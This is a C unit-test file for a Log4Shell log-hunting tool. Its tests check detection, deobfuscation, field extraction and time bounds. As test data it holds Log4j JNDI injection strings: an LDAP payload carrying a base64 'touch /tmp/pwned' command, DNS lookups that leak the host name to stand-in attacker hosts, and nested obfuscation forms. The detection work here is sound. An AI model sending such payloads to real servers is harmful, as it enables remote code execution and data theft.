@@ -1,0 +1,442 @@
+/* test_loghunt.c - unit tests of the lookup evaluator and the log hunter.
+ *
+ * The obfuscation tables are data: tests/cases/logs-payloads.tsv (logged
+ * text, the jndi lookup Log4j would make of it, the exfiltration lookups)
+ * and tests/cases/logs-near-misses.tsv (text that must not be reported).
+ * Each row is logged inside an access-log line and fed to a hunter; each
+ * payload is also fed one byte at a time, which must change nothing.  The
+ * rest checks the pieces: unescaping with its offset map, timestamps,
+ * clients, URL targets, line numbers and offsets across buffer refills, a
+ * payload at the end of a line longer than the buffer, and the bounds. */
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#include "loghunt.h"
+#include "lookup_eval.h"
+#include "unit.h"
+
+struct seen {
+	size_t n;
+	struct {
+		char *path, *decoded, *raw, *timestamp, *client, *protocol, *host, *exfil, *payload;
+		unsigned long long line, offset;
+		int port;
+	} a[64];
+};
+
+static char *dup_or_null(const char *s)
+{
+	return s ? xstrdup(s) : NULL;
+}
+
+static void on_attempt(void *ctx, const struct lh_attempt *a)
+{
+	struct seen *s = ctx;
+	if (s->n == 64)
+		return;
+	struct buf ex = BUF_INIT;
+	for (size_t i = 0; i < a->n_exfil; i++) {
+		if (i)
+			buf_addc(&ex, ',');
+		buf_adds(&ex, a->exfil[i]);
+	}
+	s->a[s->n].path = xstrdup(a->path);
+	s->a[s->n].decoded = xstrdup(a->decoded);
+	s->a[s->n].raw = xstrndup(a->raw, a->raw_len);
+	s->a[s->n].timestamp = dup_or_null(a->timestamp);
+	s->a[s->n].client = dup_or_null(a->client);
+	s->a[s->n].protocol = xstrdup(a->protocol);
+	s->a[s->n].host = xstrdup(a->host);
+	s->a[s->n].exfil = xstrdup(buf_cstr(&ex));
+	s->a[s->n].payload = a->payload ? xstrndup(a->payload, a->payload_len) : NULL;
+	s->a[s->n].line = a->line;
+	s->a[s->n].offset = a->offset;
+	s->a[s->n].port = a->port;
+	s->n++;
+	buf_free(&ex);
+}
+
+static void seen_clear(struct seen *s)
+{
+	for (size_t i = 0; i < s->n; i++) {
+		free(s->a[i].path);
+		free(s->a[i].decoded);
+		free(s->a[i].raw);
+		free(s->a[i].timestamp);
+		free(s->a[i].client);
+		free(s->a[i].protocol);
+		free(s->a[i].host);
+		free(s->a[i].exfil);
+		free(s->a[i].payload);
+	}
+	s->n = 0;
+}
+
+/* Feed text to a fresh stream in pieces of `step` bytes (0 = at once). */
+static void hunt(struct loghunt *h, const char *text, size_t n, size_t step)
+{
+	loghunt_begin(h, "test.log");
+	if (!step)
+		step = n ? n : 1;
+	for (size_t i = 0; i < n; i += step)
+		loghunt_feed(h, text + i, n - i < step ? n - i : step);
+	loghunt_end(h);
+}
+
+static const char line_prefix[] =
+	"198.51.100.7 - - [10/Dec/2021:13:55:36 +0100] \"GET /search?q=1&x=%20y HTTP/1.1\" 200 512 \"-\" \"";
+
+static void access_line(struct buf *b, const char *payload)
+{
+	buf_reset(b);
+	buf_adds(b, "203.0.113.1 - - [10/Dec/2021:13:55:35 +0100] \"GET / HTTP/1.1\" 200 1 \"-\" \"curl\"\n");
+	buf_adds(b, line_prefix);
+	buf_adds(b, payload);
+	buf_adds(b, "\"\n");
+}
+
+/* Split a TSV line in place into at most max fields. */
+static size_t split_tabs(char *line, char **f, size_t max)
+{
+	size_t n = 0;
+	line[strcspn(line, "\r\n")] = 0;
+	char *p = line;
+	while (n < max) {
+		f[n++] = p;
+		char *t = strchr(p, '\t');
+		if (!t)
+			break;
+		*t = 0;
+		p = t + 1;
+	}
+	return n;
+}
+
+static FILE *open_case(const char *name)
+{
+	char path[4096];
+	const char *top = getenv("TOP");
+	snprintf(path, sizeof path, "%s/tests/cases/%s", top ? top : ".", name);
+	return fopen(path, "r");
+}
+
+static void test_payload_table(struct loghunt *h, struct seen *s)
+{
+	FILE *f = open_case("logs-payloads.tsv");
+	CHECK("payload table readable", f != NULL);
+	if (!f)
+		return;
+	char line[8192], name[256];
+	struct buf text = BUF_INIT;
+	int rows = 0;
+	while (fgets(line, sizeof line, f)) {
+		char *fld[4];
+		if (line[0] == '#' || line[0] == '\n')
+			continue;
+		size_t nf = split_tabs(line, fld, 4);
+		if (nf < 3)
+			continue;
+		rows++;
+		const char *want_exfil = nf > 3 ? fld[3] : "";
+		access_line(&text, fld[1]);
+		for (int step = 0; step < 2; step++) {
+			seen_clear(s);
+			hunt(h, text.data, text.len, step ? 1 : 0);
+			snprintf(name, sizeof name, "payload %s%s: one attempt", fld[0], step ? " (bytewise)" : "");
+			CHECK(name, s->n == 1);
+			if (s->n < 1)
+				continue;
+			snprintf(name, sizeof name, "payload %s%s: decoded", fld[0], step ? " (bytewise)" : "");
+			CHECK_STR(name, s->a[0].decoded, fld[2]);
+			snprintf(name, sizeof name, "payload %s%s: raw", fld[0], step ? " (bytewise)" : "");
+			CHECK_STR(name, s->a[0].raw, fld[1]);
+			snprintf(name, sizeof name, "payload %s%s: exfil", fld[0], step ? " (bytewise)" : "");
+			CHECK_STR(name, s->a[0].exfil, want_exfil);
+			snprintf(name, sizeof name, "payload %s%s: line and offset", fld[0], step ? " (bytewise)" : "");
+			CHECK(name, s->a[0].line == 2 &&
+				    s->a[0].offset == (unsigned long long)(strstr(text.data, line_prefix) - text.data) +
+							  sizeof line_prefix - 1);
+		}
+	}
+	fclose(f);
+	buf_free(&text);
+	CHECK("payload table has at least 40 forms", rows >= 40);
+}
+
+static void test_near_misses(struct loghunt *h, struct seen *s)
+{
+	FILE *f = open_case("logs-near-misses.tsv");
+	CHECK("near-miss table readable", f != NULL);
+	if (!f)
+		return;
+	char line[8192], name[256];
+	struct buf text = BUF_INIT;
+	int rows = 0;
+	while (fgets(line, sizeof line, f)) {
+		char *fld[2];
+		if (line[0] == '#' || line[0] == '\n')
+			continue;
+		if (split_tabs(line, fld, 2) < 2)
+			continue;
+		rows++;
+		access_line(&text, fld[1]);
+		seen_clear(s);
+		hunt(h, text.data, text.len, 0);
+		snprintf(name, sizeof name, "near miss %s: not reported", fld[0]);
+		CHECK(name, s->n == 0);
+		if (s->n)
+			printf("#   reported as %s\n", s->a[0].decoded);
+		/* the bare text, as the whole message */
+		struct lk_result r;
+		size_t found = lookup_eval(fld[1], strlen(fld[1]), &r);
+		lookup_result_free(&r);
+		snprintf(name, sizeof name, "near miss %s: evaluator finds no jndi", fld[0]);
+		CHECK(name, found == 0);
+	}
+	fclose(f);
+	buf_free(&text);
+	CHECK("near-miss table has at least 20 rows", rows >= 20);
+}
+
+static void test_fields(struct loghunt *h, struct seen *s)
+{
+	struct buf text = BUF_INIT;
+	access_line(&text, "${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}");
+	seen_clear(s);
+	hunt(h, text.data, text.len, 0);
+	CHECK("fields: one attempt", s->n == 1);
+	if (s->n == 1) {
+		CHECK_STR("fields: path", s->a[0].path, "test.log");
+		CHECK_STR("fields: protocol", s->a[0].protocol, "ldap");
+		CHECK_STR("fields: host", s->a[0].host, "203.0.113.7");
+		CHECK("fields: port", s->a[0].port == 1389);
+		CHECK_STR("fields: client", s->a[0].client, "198.51.100.7");
+		CHECK_STR("fields: timestamp", s->a[0].timestamp, "2021-12-10T13:55:36+01:00");
+		CHECK_STR("fields: base64 payload", s->a[0].payload, "touch /tmp/pwned");
+	}
+	/* the line head ends at its newline: the next line's date is not ours */
+	const char *two = "Dec 13 08:01:03 web1 app: ${jndi:dns://e.example/x}\n"
+			  "2021-12-10 13:55:36,123 [main] INFO next line\n";
+	seen_clear(s);
+	hunt(h, two, strlen(two), 0);
+	CHECK("fields: timestamp from its own line", s->n == 1 && s->a[0].timestamp &&
+						      !strcmp(s->a[0].timestamp, "Dec 13 08:01:03"));
+	buf_free(&text);
+}
+
+static void test_targets(void)
+{
+	static const struct {
+		const char *decoded, *protocol, *host;
+		int port;
+	} t[] = {
+		{"jndi:ldap://203.0.113.7:1389/a", "ldap", "203.0.113.7", 1389},
+		{"jndi:LDAPS://Evil.Example/a", "ldaps", "Evil.Example", -1},
+		{"jndi:rmi://u@evil.example:1099", "rmi", "evil.example", 1099},
+		{"jndi:dns://[2001:db8::1]:53/x", "dns", "[2001:db8::1]", 53},
+		{"jndi:corbaname:iiop:evil.example:1050#x", "corba", "evil.example", 1050},
+		{"jndi:iiopname://evil.example:900/x", "iiop", "evil.example", 900},
+		{"jndi:dns://${hostName}.evil.example", "dns", "${hostName}.evil.example", -1},
+		{"jndi:ldap://x:99999/a", "ldap", "x", -1},
+		{"jndi:ldap://127.0.0.1#evil.example:1389/a", "ldap", "127.0.0.1#evil.example", 1389},
+		{"jndi:foo", "", "", -1},
+		{"jndi:java:comp/env", "java", "", -1},
+	};
+	struct buf p = BUF_INIT, h = BUF_INIT;
+	char name[128];
+	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
+		int port;
+		lh_jndi_target(t[i].decoded, &p, &h, &port);
+		snprintf(name, sizeof name, "target %s", t[i].decoded);
+		CHECK(name, !strcmp(buf_cstr(&p), t[i].protocol) && !strcmp(buf_cstr(&h), t[i].host) &&
+				    port == t[i].port);
+		if (strcmp(buf_cstr(&p), t[i].protocol) || strcmp(buf_cstr(&h), t[i].host) || port != t[i].port)
+			printf("#   got '%s' '%s' %d\n", buf_cstr(&p), buf_cstr(&h), port);
+	}
+	buf_free(&p);
+	buf_free(&h);
+}
+
+static void test_timestamps(void)
+{
+	static const struct {
+		const char *line, *ts, *day;
+	} t[] = {
+		{"1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] \"GET /", "2000-10-10T13:55:36-07:00", "2000-10-10"},
+		{"2021-12-10T08:01:02.345Z INFO x", "2021-12-10T08:01:02.345Z", "2021-12-10"},
+		{"2021-12-10 08:01:02,345 [main] INFO", "2021-12-10T08:01:02.345", "2021-12-10"},
+		{"{\"time\":\"2021-12-11T23:59:59+05:30\",\"msg\":1}", "2021-12-11T23:59:59+05:30", "2021-12-11"},
+		{"Dec 10 08:01:02 host sshd[1]: x", "Dec 10 08:01:02", "--12-10"},
+		{"<13>Dec  9 08:01:02 host x", "Dec  9 08:01:02", "--12-09"},
+	};
+	struct buf ts = BUF_INIT;
+	char day[11], name[160];
+	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
+		bool ok = lh_line_timestamp(t[i].line, strlen(t[i].line), &ts, day);
+		snprintf(name, sizeof name, "timestamp of '%.30s'", t[i].line);
+		CHECK(name, ok && !strcmp(buf_cstr(&ts), t[i].ts) && !strcmp(day, t[i].day));
+		if (!ok || strcmp(buf_cstr(&ts), t[i].ts) || strcmp(day, t[i].day))
+			printf("#   got '%s' '%s'\n", buf_cstr(&ts), day);
+	}
+	CHECK("no timestamp in prose", !lh_line_timestamp("hello world 12:00", 17, &ts, day));
+	buf_free(&ts);
+}
+
+static void test_clients(void)
+{
+	struct buf c = BUF_INIT;
+	const char *l1 = "203.0.113.9 - frank [10/Oct/2000:13:55:36 -0700] \"GET /";
+	CHECK("client ipv4", lh_line_client(l1, strlen(l1), &c) && !strcmp(buf_cstr(&c), "203.0.113.9"));
+	const char *l2 = "2001:db8::7 - - [10/Oct/2000:13:55:36 -0700] \"GET /";
+	CHECK("client ipv6", lh_line_client(l2, strlen(l2), &c) && !strcmp(buf_cstr(&c), "2001:db8::7"));
+	const char *l3 = "Dec 10 08:01:02 host sshd[1]: x";
+	CHECK("no client in syslog", !lh_line_client(l3, strlen(l3), &c));
+	const char *l4 = "2021-12-10 08:01:02,345 [main] INFO";
+	CHECK("no client in app log", !lh_line_client(l4, strlen(l4), &c));
+	buf_free(&c);
+}
+
+static void test_unescape(void)
+{
+	const char *s = "a%2524%257Bb\\u0024&#36;";
+	char out[64];
+	uint32_t map[65];
+	size_t n = lh_unescape(s, strlen(s), out, map);
+	CHECK("unescape: repeated layers", n == 6 && !memcmp(out, "a${b$$", 6));
+	CHECK("unescape: map points at the escapes", map[0] == 0 && map[1] == 1 && map[2] == 6 &&
+						     map[3] == 11 && map[4] == 12 && map[5] == 18 &&
+						     map[6] == strlen(s));
+	const char *u = "\\u0131%C4%B1%zz\\u00";
+	n = lh_unescape(u, strlen(u), out, NULL);
+	CHECK("unescape: utf-8 and broken escapes", n == 4 + 7 && !memcmp(out, "\xc4\xb1\xc4\xb1%zz\\u00", n));
+}
+
+/* Line numbers and offsets across buffer refills, CRLF, and a payload at
+ * the end of a line far longer than the buffer. */
+static void test_stream(struct loghunt *h, struct seen *s)
+{
+	struct buf t = BUF_INIT;
+	for (int i = 0; i < 30000; i++)
+		buf_printf(&t, "10.0.0.%d - - [10/Dec/2021:00:00:%02d +0000] \"GET /a?b=%%41&c=1 HTTP/1.1\" 200 1\r\n",
+			   i % 250, i % 60);
+	size_t off1 = t.len;
+	buf_adds(&t, "x ${jndi:ldap://one.example/a}\n");
+	for (int i = 0; i < 30000; i++)
+		buf_adds(&t, "plain line with 100% & $ signs\n");
+	buf_adds(&t, "10.9.9.9 - - [11/Dec/2021:01:02:03 +0000] \"GET /");
+	size_t long_start = t.len;
+	while (t.len - long_start < 3 * LH_BUF_SIZE)
+		buf_adds(&t, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa$");
+	size_t off2 = t.len;
+	buf_adds(&t, "%24%7Bjndi:rmi://two.example/b%7D");
+	seen_clear(s);
+	hunt(h, t.data, t.len, 65536 + 7);
+	CHECK("stream: two attempts", s->n == 2);
+	if (s->n == 2) {
+		CHECK("stream: first line number", s->a[0].line == 30001);
+		CHECK("stream: first offset", s->a[0].offset == off1 + 2);
+		CHECK("stream: second line number", s->a[1].line == 60002);
+		CHECK("stream: second offset", s->a[1].offset == off2);
+		CHECK_STR("stream: long line keeps its timestamp", s->a[1].timestamp, "2021-12-11T01:02:03+00:00");
+		CHECK_STR("stream: long line keeps its client", s->a[1].client, "10.9.9.9");
+		CHECK_STR("stream: last line without newline", s->a[1].decoded, "jndi:rmi://two.example/b");
+	}
+	const struct lh_stats *st = loghunt_stats(h);
+	CHECK("stream: counts lines", st->lines > 60002);
+	buf_free(&t);
+}
+
+/* A hostile line: lots of nesting and unclosed "${" must cost bounded time
+ * and still find the real payload placed before the junk. */
+static void test_bounds(struct loghunt *h, struct seen *s)
+{
+	struct buf t = BUF_INIT;
+	buf_adds(&t, "${jndi:ldap://first.example/a} ");
+	while (t.len < (8u << 20))
+		buf_adds(&t, "${${lower:${");
+	buf_adds(&t, "\n");
+	seen_clear(s);
+	clock_t c0 = clock();
+	hunt(h, t.data, t.len, 1 << 16);
+	double secs = (double)(clock() - c0) / CLOCKS_PER_SEC;
+	CHECK("bounds: payload before junk found", s->n == 1);
+	CHECK("bounds: 8 MB of '${' in bounded time", secs < 20.0);
+	printf("# 8 MB hostile line: %.2f s\n", secs);
+
+	/* junk that would exhaust a fixed budget must not hide what follows */
+	static const char *const junk[] = {"${", "${a}", "${${lower:x}", "%24%7B", "${::-${::-${::-x}}}"};
+	for (size_t k = 0; k < sizeof junk / sizeof junk[0]; k++) {
+		buf_reset(&t);
+		while (t.len < (4u << 20))
+			buf_adds(&t, junk[k]);
+		buf_adds(&t, " ${jndi:ldap://after-junk.example/a}\n");
+		seen_clear(s);
+		c0 = clock();
+		hunt(h, t.data, t.len, 1 << 16);
+		secs = (double)(clock() - c0) / CLOCKS_PER_SEC;
+		char name[128];
+		snprintf(name, sizeof name, "bounds: payload after 4 MB of '%s' found", junk[k]);
+		CHECK(name, s->n >= 1 && !strcmp(s->a[s->n - 1].decoded, "jndi:ldap://after-junk.example/a"));
+		snprintf(name, sizeof name, "bounds: 4 MB of '%s' in bounded time", junk[k]);
+		CHECK(name, secs < 20.0);
+		printf("# 4 MB of '%s': %.2f s\n", junk[k], secs);
+	}
+
+	buf_reset(&t);
+	for (int i = 0; i < 5000; i++)
+		buf_adds(&t, "${lower:");
+	buf_adds(&t, "${jndi:ldap://deep.example/a}");
+	for (int i = 0; i < 5000; i++)
+		buf_addc(&t, '}');
+	struct lk_result r;
+	lookup_eval(t.data, t.len, &r);
+	CHECK("bounds: deep nesting stops at the depth limit", r.limited);
+	CHECK("bounds: steps bounded", r.steps <= LK_MAX_STEPS + t.len);
+	lookup_result_free(&r);
+
+	buf_reset(&t);
+	buf_adds(&t, "${jndi:ldap://");
+	for (int i = 0; i < 20; i++)
+		buf_adds(&t, "${lower:${upper:${lower:x}}}");
+	buf_adds(&t, "/a}");
+	size_t found = lookup_eval(t.data, t.len, &r);
+	CHECK("bounds: moderate nesting evaluates fully", found == 1 && !r.limited);
+	lookup_result_free(&r);
+	buf_free(&t);
+}
+
+static void test_tally(void)
+{
+	struct lh_tally t = {0};
+	char key[32];
+	for (int i = 0; i < 1000; i++) {
+		snprintf(key, sizeof key, "h%d", i % 100);
+		lh_tally_add(&t, key);
+	}
+	lh_tally_add(&t, "h7");
+	lh_tally_sort(&t);
+	CHECK("tally: distinct keys", t.n == 100);
+	CHECK("tally: sorted by count", t.n && !strcmp(t.v[0].key, "h7") && t.v[0].count == 11 &&
+						  t.v[1].count == 10 && !strcmp(t.v[1].key, "h0"));
+	lh_tally_free(&t);
+}
+
+int main(void)
+{
+	static struct seen s;
+	struct loghunt *h = loghunt_new(on_attempt, &s);
+	test_payload_table(h, &s);
+	test_near_misses(h, &s);
+	test_fields(h, &s);
+	test_targets();
+	test_timestamps();
+	test_clients();
+	test_unescape();
+	test_stream(h, &s);
+	test_bounds(h, &s);
+	test_tally();
+	seen_clear(&s);
+	loghunt_free(h);
+	UNIT_EXIT();
+}
